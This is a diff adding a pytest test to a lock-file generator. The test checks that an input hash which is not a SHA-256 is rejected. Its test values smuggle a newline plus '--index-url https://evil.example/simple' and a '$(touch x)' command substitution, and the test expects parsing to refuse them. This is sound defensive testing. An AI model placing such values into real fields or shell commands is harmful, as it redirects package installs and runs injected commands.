@@ -415,3 +415,16 @@ def test_sources_toml_refuses_an_index_that_would_add_options(old: str, new: str
     assert old in text
     with pytest.raises(InputError, match=rf"indexes\[\d\]\.{key}: "):
         parse_sources_toml(text.replace(old, new, 1), "locks/a5.sources.toml")
+
+
+def test_an_input_hash_that_is_not_a_sha256_is_refused() -> None:
+    # Every derived file writes it in its header (`# envgen-input-hash: ...`) and the Nix dev shell puts it
+    # in a shell command: a line break or `$(...)` in it must not get that far.
+    text = render_lock_yml(sample_lock())
+    recorded = sample_lock().input_hash
+    hostile = text.replace(recorded, "0\\n--index-url https://evil.example/simple $(touch x)")
+    with pytest.raises(InputError, match="x.yml: .*envgen_input_hash"):
+        parse_lock_yml(hostile, "x.yml")
+    sources = render_sources_toml(sample_lock())
+    with pytest.raises(InputError, match="input-hash"):
+        parse_sources_toml(sources.replace(recorded, "0 $(touch x)"), "a5.sources.toml")
